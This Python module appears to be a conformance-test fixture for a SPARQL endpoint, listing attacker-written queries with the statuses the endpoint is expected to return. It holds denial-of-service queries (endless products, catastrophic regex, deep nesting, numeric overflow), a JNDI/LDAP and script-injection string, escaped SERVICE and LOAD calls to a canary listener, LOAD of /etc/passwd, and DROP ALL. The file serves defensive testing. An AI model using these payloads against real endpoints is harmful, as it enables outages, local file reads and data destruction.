"""Query texts that an attacker writes: each family takes time, memory, depth, the network or a file where it can.

They are ours; the folder `../shared/conformance/hostile` has more (docs/conformance.md). `{CANARY}` is the port of a
listener that nobody may reach. Sizes stay below the limits of screening (100 levels, 1,000 operators) where the aim is
to reach the engine, and go beyond where the aim is to be refused.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

PRODUCT = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
CONTAINED = frozenset({200, 408, 413, 503})
REFUSED = frozenset({400})
EITHER = CONTAINED | REFUSED


@dataclass(frozen=True)
class Input:
    """`text` to send as a query; the statuses that are right; the seconds it may take at most, None for the limit."""

    name: str
    text: bytes
    statuses: frozenset[int]
    longest_s: float | None = None


def inputs() -> list[Input]:
    """All of ours, by name."""
    return [*_of(_endless(), CONTAINED), *_of(_growing(), EITHER), *_of(_deep_or_long(), EITHER), *_of(_odd(), EITHER), *_of(_reaching_out(), REFUSED),
            *_of(_reaching_nothing(), frozenset({200}))]


def _of(families: Iterator[tuple[str, str]], statuses: frozenset[int]) -> list[Input]:
    return [Input(name, text.encode(), statuses) for name, text in families]


def _endless() -> Iterator[tuple[str, str]]:
    """Small texts over products that never end."""
    yield "order-by-rand", f"SELECT * {{ {PRODUCT} }} ORDER BY RAND() LIMIT 1"
    yield "order-by-many-keys", f"SELECT * {{ {PRODUCT} }} ORDER BY " + " ".join(f"DESC(SHA512(STR(?{v})))" for v in "abcdefghi")
    yield "group-concat", f"SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?f))) AS ?x) {{ {PRODUCT} }}"
    yield "group-by-everything", f"SELECT ?a ?d ?g (COUNT(*) AS ?n) {{ {PRODUCT} }} GROUP BY ?a ?d ?g HAVING (COUNT(*) < 0)"
    yield "distinct-product", f"SELECT DISTINCT * {{ {PRODUCT} }}"
    yield "count-distinct-uuid", f"SELECT (COUNT(DISTINCT UUID()) AS ?n) {{ {PRODUCT} }}"
    yield "construct-product", f"CONSTRUCT {{ ?a ?e ?i . ?d ?h ?c . ?g ?b ?f }} WHERE {{ {PRODUCT} }}"
    yield "construct-bnodes", f"CONSTRUCT {{ [] ?b [ ?e [ ?h ?c ] ] }} WHERE {{ {PRODUCT} }}"
    yield "bnode-flood", f"SELECT (COUNT(DISTINCT BNODE()) AS ?n) (COUNT(DISTINCT BNODE(STR(?c))) AS ?m) {{ {PRODUCT} }}"
    yield "iri-flood", f"SELECT (COUNT(DISTINCT IRI(CONCAT('urn:', STR(?a), STR(?d), STR(?g)))) AS ?n) {{ {PRODUCT} }}"
    yield "strdt-flood", f"SELECT DISTINCT (STRDT(STR(?c), IRI(CONCAT('urn:', STR(RAND())))) AS ?x) {{ {PRODUCT} }}"
    yield "filter-that-never-holds", f"ASK {{ {PRODUCT} FILTER (STRLEN(CONCAT(STR(?a), STR(?d), STR(?g))) < 0) }}"
    yield "minus-product", f"SELECT (COUNT(*) AS ?n) {{ {PRODUCT} MINUS {{ ?a ?e ?i . ?z ?y ?x }} }}"
    yield "not-exists-product", "ASK { ?a ?b ?c FILTER NOT EXISTS { ?d ?e ?f . ?g ?h ?i FILTER (?d = ?c || ?f != ?a) } FILTER (false || ?b = ?c) }"
    yield "nested-exists", "ASK { ?s ?p ?o " + "".join(f"FILTER NOT EXISTS {{ ?s{i} ?p ?o{i} . ?o{i} ?q{i} ?z " for i in range(20)) + "FILTER(false)" + " }" * 21
    yield "path-closure-of-all", "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>|!^<urn:x>)+ ?b . ?b (!<urn:y>)* ?c . ?c (!<urn:z>)* ?d }"
    yield "path-closures-in-a-row", "SELECT (COUNT(*) AS ?n) { ?a " + "/".join(["(!<urn:x>)*"] * 10) + " ?b }"
    yield "path-closures-nested", "SELECT (COUNT(*) AS ?n) { ?a " + "(" * 60 + "!<urn:x>" + ")*" * 60 + " ?b }"
    yield "path-alternatives", "SELECT (COUNT(*) AS ?n) { ?a (" + "|".join(f"^<urn:{i}>" for i in range(400)) + "|!<urn:x>)+ ?b . ?c ?d ?e }"
    yield "values-joined", "SELECT (COUNT(*) AS ?n) { " + " ".join(f"VALUES ?v{i} {{ {' '.join(map(str, range(2000)))} }}" for i in range(5)) + " }"
    yield "offset-over-product", f"SELECT * {{ {PRODUCT} }} OFFSET 9223372036854775807 LIMIT 1"
    yield "subselects", "SELECT (COUNT(*) AS ?n) { " + "".join(f"{{ SELECT (SUM(STRLEN(STR(?c))) AS ?x{i}) {{ {PRODUCT} }} GROUP BY ?a }} " for i in range(8)) + "}"
    yield "long-chain-of-triples", "SELECT (COUNT(*) AS ?n) { " + " . ".join(f"?v{i} ?p{i} ?v{i + 1}" for i in range(300)) + " }"
    yield "lateral-optionals", "SELECT (COUNT(*) AS ?n) { ?s ?p ?o " + " ".join(f"OPTIONAL {{ ?s ?p{i} ?o{i} }}" for i in range(60)) + " }"


def _growing() -> Iterator[tuple[str, str]]:
    """Values and answers that grow."""
    doubled = " ".join(f"BIND (CONCAT(?s{i}, ?s{i}) AS ?s{i + 1})" for i in range(60))
    yield "concat-doubling", f"SELECT (STRLEN(?s60) AS ?n) {{ BIND ('aaaaaaaaaaaaaaaa' AS ?s0) {doubled} }}"
    yield "replace-growth", "SELECT (STRLEN(?s9) AS ?n) { BIND ('aaaaaaaa' AS ?s0) " + " ".join(f"BIND (REPLACE(?s{i}, '(.)', '$1$1$1$1$1$1$1$1') AS ?s{i + 1})" for i in range(9)) + " }"
    yield "encode-growth", "SELECT (STRLEN(" + "ENCODE_FOR_URI(" * 80 + f"'{'é' * 10000}'" + ")" * 80 + ") AS ?n) {}"
    yield "group-concat-of-itself", "SELECT (GROUP_CONCAT(?x) AS ?y) { { SELECT (GROUP_CONCAT(STR(?o)) AS ?x) { ?s ?p ?o } } ?a ?b ?c }"
    yield "describe-all", "DESCRIBE * { ?s ?p ?o . ?t ?q ?s }"
    yield "everything-nine-times", "SELECT * { " + " UNION ".join(["{ ?s ?p ?o }"] * 900) + " }"
    yield "wide-rows", "SELECT * { ?s ?p ?o " + " ".join(f"BIND (?o AS ?o{i})" for i in range(900)) + " }"
    yield "hashes", "SELECT (" + "SHA512(" * 90 + f"'{'a' * 1000000}'" + ")" * 90 + " AS ?x) { ?s ?p ?o }"


def _deep_or_long() -> Iterator[tuple[str, str]]:
    """Long texts, and texts just below and far beyond the depth that is let through."""
    yield "values-100k", "SELECT (COUNT(*) AS ?n) { VALUES ?x { " + " ".join(map(str, range(100000))) + " } }"
    yield "in-100k", "ASK { ?s ?p ?o FILTER (?o IN (" + ", ".join(map(str, range(100000))) + ")) }"
    yield "literal-1mb", f"SELECT (STRLEN('{'é' * 500000}') AS ?n) {{}}"
    yield "escapes-1mb", f"SELECT (STRLEN('{chr(92) + 'u0041'}') AS ?n) {{}} #" + "\\u0041" * 160000
    yield "iri-of-parents", f"BASE <http://e/> ASK {{ ?s ?p <{'../' * 100000}> }}"
    yield "variable-of-1mb", f"SELECT * {{ ?s ?p ?{'a' * 1000000} }} LIMIT 1"
    yield "variables-20k", "SELECT " + " ".join(f"?v{i}" for i in range(20000)) + " { ?s ?p ?o } LIMIT 100"
    yield "list-10k", "ASK { ?s ?p (" + "1 " * 10000 + ") }"
    yield "triples-5k", "ASK { " + " . ".join(f"?v{i} ?p{i} ?v{(i * 7) % 5000}" for i in range(5000)) + " }"
    yield "objects-50k", "ASK { ?s ?p " + ", ".join(map(str, range(50000))) + " }"
    yield "concat-of-50k", "SELECT (CONCAT(" + ", ".join(["'a'"] * 50000) + ") AS ?x) {}"
    yield "comments-2mb", "ASK {" + "#\n" * 900000 + "}"
    yield "groups-99-deep", "ASK " + "{" * 99 + "}" * 99
    yield "graphs-99-deep", "ASK { " + "GRAPH ?g { " * 98 + "?s ?p ?o" + " }" * 99
    yield "optionals-99-deep", "SELECT * { ?s ?p ?o " + "OPTIONAL { ?o ?q ?r " * 98 + " }" * 99
    yield "calls-99-deep", "SELECT (" + "STR(" * 98 + "1" + ")" * 98 + " AS ?x) {}"
    yield "subselects-99-deep", "SELECT * { " + "{ SELECT * { " * 49 + "?s ?p ?o" + " } }" * 49 + " } LIMIT 1"
    yield "bnodes-99-deep", "ASK { ?s ?p " + "[ ?p " * 98 + "1" + " ]" * 98 + " }"
    yield "groups-100k-deep", "ASK " + "{" * 100000 + "}" * 100000
    yield "unions-999", "SELECT * { {} " + "UNION {} " * 999 + "}"
    yield "unions-100k", "SELECT * { {} " + "UNION {} " * 100000 + "}"
    yield "negations-999", "ASK { FILTER (" + "!" * 999 + "true) }"
    yield "minuses-999", "SELECT (1" + "-1" * 999 + " AS ?x) {}"
    yield "minuses-spaced-999", "SELECT (1" + " - ?x" * 999 + " AS ?y) { BIND (1 AS ?x) }"
    yield "minuses-spaced-100k", "SELECT (1" + " - ?x" * 100000 + " AS ?y) { BIND (1 AS ?x) }"
    yield "path-steps-999", "ASK { ?s " + "/".join(["<urn:a>"] * 999) + " ?o }"
    yield "semicolons-100k", "ASK { ?s ?p ?o " + ";" * 100000 + " }"
    yield "from-10k", "SELECT * " + " ".join(f"FROM <urn:g{i}>" for i in range(10000)) + " { ?s ?p ?o } LIMIT 1"


def _odd() -> Iterator[tuple[str, str]]:
    """Arithmetic, patterns and text that break evaluators."""
    yield "regex-nested-quantifiers", f"ASK {{ FILTER (REGEX('{'a' * 5000}!', '^((a|aa)+)+$')) }}"
    yield "regex-counted", f"ASK {{ FILTER (REGEX('{'a' * 100}', '((a{{1,100}}){{1,100}}){{1,100}}')) }}"
    yield "regex-classes", "ASK { FILTER (REGEX('é', '" + r"(\\\\p{L}|\\\\p{Lu}|\\\\w|[^x]){1,500}" * 20 + "')) }"
    yield "regex-computed", "SELECT (COUNT(*) AS ?n) { ?s ?p ?o . ?t ?q ?r FILTER (REGEX(STR(?o), CONCAT('(', STR(?r), ')*'))) }"
    yield "replace-empty-match", f"SELECT (REPLACE('{'a' * 100000}', 'b*', '$0x') AS ?x) {{}}"
    yield "replace-many-groups", "SELECT (REPLACE('aaaaaaaaaa', '" + "(a?)" * 400 + "', '$1$400$999999999999999999999') AS ?x) {}"
    yield "integer-overflow", "SELECT (" + " * ".join(["9223372036854775807"] * 400) + " AS ?x) (-(-9223372036854775808) AS ?y) (ABS(-9223372036854775808) AS ?z) {}"
    yield "decimal-overflow", "SELECT (" + " / ".join(["170141183460469231731.687303715884105727", "0.000000000000000001"] * 200) + " AS ?x) {}"
    yield "decimal-digits", f"SELECT (0.{'3' * 200000} * 1.0 AS ?x) (1{'0' * 200000} AS ?y) (1e{'9' * 100000} AS ?z) {{}}"
    yield "sum-overflow", "SELECT (SUM(?x) AS ?s) (AVG(?x) AS ?a) { VALUES ?x { 9223372036854775807 9223372036854775807 170141183460469231731.0 1e308 1e308 } }"
    yield "division-by-zero", "SELECT (1/0 AS ?a) (1.0/0.0 AS ?b) (1e0/0 AS ?c) (0e0/0e0 AS ?d) (-9223372036854775808/-1 AS ?e) {}"
    yield "dates-out-of-range", ("SELECT (xsd:dateTime('999999999999-01-01T00:00:00Z') AS ?a) ('-9999999999-12-31'^^xsd:date - '9999999999-01-01'^^xsd:date AS ?b) "
                                 "(xsd:dateTime('2000-01-01T00:00:00Z') + 'P99999999999999999Y'^^xsd:duration AS ?c) (YEAR('0000-00-00T99:99:99+99:99'^^xsd:dateTime) AS ?d) {}"
                                 .replace("SELECT", "PREFIX xsd: <http://www.w3.org/2001/XMLSchema#> SELECT", 1))
    yield "substr-extremes", "SELECT (SUBSTR('a😀b', -9223372036854775808, 9223372036854775807) AS ?a) (SUBSTR('a😀b', 1e308) AS ?b) (SUBSTR('a😀b', 2, -1e308) AS ?c) (SUBSTR('😀', 0/0) AS ?d) {}"
    yield "limit-beyond-64-bits", f"SELECT * {{ ?s ?p ?o }} LIMIT {'9' * 1000} OFFSET {'9' * 1000}"
    yield "surrogate-escapes", 'SELECT ("\\ud800\\udc00" AS ?x) ("\\udfff" AS ?y) ("\\UFFFFFFFF" AS ?z) {}'
    yield "odd-characters", 'SELECT ("\u202e\u0085\u2028\ufeff\ufffe\x7f" AS ?x) ("=1+1" AS ?y) ("a\\r\\nb,\\"" AS ?z) {}'
    yield "template-words", 'SELECT ("{{7*7}}" AS ?x) ("%s%n${jndi:ldap://127.0.0.1:{CANARY}/}" AS ?y) ("<script>alert(1)</script>" AS ?z) { BIND (<javascript:alert(1)> AS ?i) }'


def _reaching_out() -> Iterator[tuple[str, str]]:
    """Calls to others and changes: refused before anything is evaluated."""
    target = "<http://127.0.0.1:{CANARY}/>"
    yield "service", f"SELECT * {{ SERVICE {target} {{ ?s ?p ?o }} }}"
    yield "service-silent-lower-case", f"SELECT * {{ service silent {target} {{ ?s ?p ?o }} }}"
    yield "service-escaped", f"SELECT * {{ \\u0053\\U00000045RVICE {target} {{ ?s ?p ?o }} }}"
    yield "service-half-escaped", f"SELECT * {{ SERV\\u0049CE SILENT {target} {{}} }}"
    yield "service-escape-of-an-escape", f"SELECT * {{ \\u005cu0053ERVICE {target} {{}} }}"
    yield "service-variable", f"SELECT * {{ BIND ({target} AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}"
    yield "service-after-string", f"SELECT * {{ ?s ?p 'it\\'s', \"\"\"a\"b\"\"\" . SERVICE {target} {{}} }}"
    yield "service-after-comment", f"SELECT * {{ # \\u000a SERVICE {target} {{}}\n SERVICE {target} {{}} }}"
    yield "service-after-escaped-name", f"PREFIX a: <urn:a> ASK {{ ?s ?p a:b\\# . SERVICE {target} {{}}\n }}"
    yield "service-after-escaped-quote", f"ASK {{ ?s ?p '\\u0027 # ' . SERVICE {target} {{}}\n }}"
    yield "service-in-escaped-long-string", f"ASK {{ #\\u000a\"\"\"\n SERVICE {target} {{}} #\"\"\"\n }}"
    yield "service-after-comparison", f"ASK {{ FILTER (1<'#>' ) SERVICE {target} {{}} #\n }}"
    yield "service-in-exists", f"ASK {{ FILTER EXISTS {{ {{ SELECT * {{ SERVICE {target} {{}} }} }} }} }}"
    yield "load", f"LOAD {target}"
    yield "load-file", "LOAD <file:///etc/passwd> INTO GRAPH <urn:x>"
    yield "insert-where", "INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }"
    yield "insert-escaped", "\\u0049NSERT DATA { <urn:a> <urn:b> <urn:c> }"
    yield "drop-after-query", "ASK {} ; DROP ALL"
    yield "function-of-others", "SELECT (<http://127.0.0.1:{CANARY}/f>(1) AS ?x) {}"


def _reaching_nothing() -> Iterator[tuple[str, str]]:
    """Names of graphs are names: nothing is opened, so nothing is found."""
    yield "from-file", "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }"
    yield "from-escaped-file", "SELECT * FROM <\\u0066ile:///etc/passwd> { ?s ?p ?o }"
    yield "from-http", "SELECT * FROM <http://127.0.0.1:{CANARY}/g> { ?s ?p ?o }"
    yield "from-named-http", "SELECT * FROM NAMED <http://127.0.0.1:{CANARY}/g> { GRAPH ?g { ?s ?p ?o } }"
    yield "graph-file", "SELECT * { GRAPH <file:///etc/passwd> { ?s ?p ?o } }"
